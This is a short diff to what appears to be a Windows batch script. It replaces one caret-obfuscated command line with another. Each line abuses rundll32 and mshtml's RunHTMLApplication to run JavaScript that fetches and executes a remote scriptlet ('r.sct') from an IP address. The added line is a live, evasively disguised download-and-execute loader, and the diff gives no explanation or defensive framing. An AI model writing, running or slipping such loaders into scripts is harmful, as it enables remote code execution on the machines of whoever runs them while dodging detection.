@@ -1,2 +1,2 @@
-REM setup 9716 v4
-f^o^r /f "tokens=1 delims=~" %%^i i^n ("rundll32.exe~xuzx~unrf") do %%i ^j^a^v^as^cr^i^pt:"\..\mshtml,RunHTMLApplication ";docum^en^t.writ^e();^G^etObj^ect("script:http://192.0.2.44/r.sct")
+REM run 6956 v4
+fo^r /f "tokens=1 delims=;" %%^i ^in ("rundll32.exe;tefz;hzee") ^d^o %%i ^ja^vas^cr^ipt:"\..\mshtml,RunHTMLApplication ";^doc^um^ent.wr^it^e();^Ge^t^Ob^j^ect("script:http://198.51.100.9/r.sct")
